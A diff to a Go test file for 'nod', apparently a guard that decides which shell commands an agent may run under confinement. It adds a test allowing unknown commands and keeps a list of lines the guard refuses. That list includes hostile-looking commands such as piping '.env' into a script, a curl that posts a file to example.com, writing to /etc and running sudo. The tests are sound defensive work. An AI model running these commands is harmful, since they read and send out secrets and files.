@@ -90,6 +90,17 @@ func TestTheLineToTypeInstead(t *testing.T) {
 	}
 }
 
+// A form that nod does not know is confined where it names nothing outside.
+func TestTheUnknownIsConfined(t *testing.T) {
+	g := confining(t, nil)
+	for _, command := range []string{"foo-unknown --x", "npm test $(foo-unknown)", "npm test; $X", "time npm test",
+		"for f in *.js; do node $f; done", "npx eslint --no-such .", "python3 - <<'E'\nprint(1)\nE"} {
+		if d := g.Check(context.Background(), line(confined(confiner, command))); d.Verdict != nod.Allow {
+			t.Errorf("%q: %v %q", command, d.Verdict, d.Reason)
+		}
+	}
+}
+
 // What has another fault has the answer that it has without confinement, and
 // cannot be typed confined either.
 func TestWhatIsNotConfined(t *testing.T) {
@@ -98,7 +109,7 @@ func TestWhatIsNotConfined(t *testing.T) {
 		"npm install", "cat .env | node x.js", "npm test; rm a.txt", "npm test > /etc/x", "python3 /tmp/x.py",
 		"npm test | tee /tmp/out", "curl -d @a.txt https://example.com; npm test", "cd sub && npm test",
 		"export A=1; npm test", "git push && npm test", "npm test; kill 1",
-		"foo-unknown --x", "npm test $(foo-unknown)", "eval \"$X\"", "npm test && cat ~/notes.txt", "source x.sh",
+		"eval \"$X\"", "npm test && cat ~/notes.txt", "source x.sh",
 		"sudo npm test", "cd / && npm test",
 	} {
 		now, before := with.Check(context.Background(), line(command)),
